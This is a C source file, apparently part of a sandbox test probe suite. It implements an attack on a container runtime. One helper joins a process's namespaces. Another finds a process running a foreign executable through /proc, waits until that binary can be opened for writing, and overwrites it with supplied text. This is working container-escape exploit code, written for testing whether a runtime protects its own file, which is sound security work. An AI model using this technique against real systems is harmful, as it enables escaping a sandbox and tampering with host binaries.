/* Attacks on the program that brings other processes into a sandbox: its file is
 * the host's, and a process that sees the program's process can open the file. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "probe.h"

/* join enters the namespaces of a process and stays there until its input ends, as
 * a runtime would that does not protect its own file. */
int cmd_join(int argc, char **argv)
{
	char path[64], byte;
	if (argc != 2)
		usage("join: which process?");
	long pid = number(argv[1], 1 << 22);
	snprintf(path, sizeof(path), "/proc/%ld/ns/pid", pid);
	int pids = open(path, O_RDONLY | O_CLOEXEC);
	snprintf(path, sizeof(path), "/proc/%ld/ns/mnt", pid);
	int mounts = open(path, O_RDONLY | O_CLOEXEC);
	if (setns(pids, CLONE_NEWPID) || setns(mounts, CLONE_NEWNS)) {
		perror("join");
		return 3;
	}
	/* Only a child is in the new pid namespace. */
	pid_t child = fork();
	if (child == 0) {
		while (read(STDIN_FILENO, &byte, 1) > 0)
			;
		_exit(0);
	}
	return child < 0 || waitpid(child, NULL, 0) != child ? 3 : 0;
}

/* foreign opens the program of a process that does not run this program. */
static int foreign(void)
{
	struct stat own, other;
	char path[300];
	DIR *processes = opendir("/proc");
	if (!processes || stat("/proc/self/exe", &own))
		return -1;
	int found = -1;
	for (struct dirent *e; found < 0 && (e = readdir(processes));) {
		if (*e->d_name < '0' || *e->d_name > '9')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
		int fd = open(path, O_PATH | O_CLOEXEC);
		if (fd >= 0 && !fstat(fd, &other) && (other.st_ino != own.st_ino || other.st_dev != own.st_dev))
			found = fd;
		else if (fd >= 0)
			close(fd);
	}
	closedir(processes);
	return found;
}

/* overwrite waits for a process with another program than its own, and then until
 * that program's file can be written. */
int cmd_overwrite(int argc, char **argv)
{
	struct outcome out = {.err = ESRCH};
	char path[64], target[256] = "";
	int fd = -1, writing = -1;
	if (argc != 3)
		usage("overwrite: with which text, for how many seconds?");
	time_t end = time(NULL) + number(argv[2], 600);
	puts("ready");
	fflush(stdout);
	while (fd < 0 && time(NULL) < end)
		fd = foreign();
	if (fd >= 0) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		if (readlink(path, target, sizeof(target) - 1) < 0)
			snprintf(target, sizeof(target), "?");
		note(&out, "%s", target);
		puts("seen");
		fflush(stdout);
	}
	/* While it runs, it cannot be opened for writing. */
	while (fd >= 0 && time(NULL) < end) {
		writing = open(path, O_WRONLY | O_CLOEXEC);
		if (writing >= 0 || errno != ETXTBSY)
			break;
	}
	if (fd >= 0)
		done(&out, writing < 0 ? -1 : write(writing, argv[1], strlen(argv[1])));
	report(STDOUT_FILENO, "overwrite", &out);
	return 0;
}
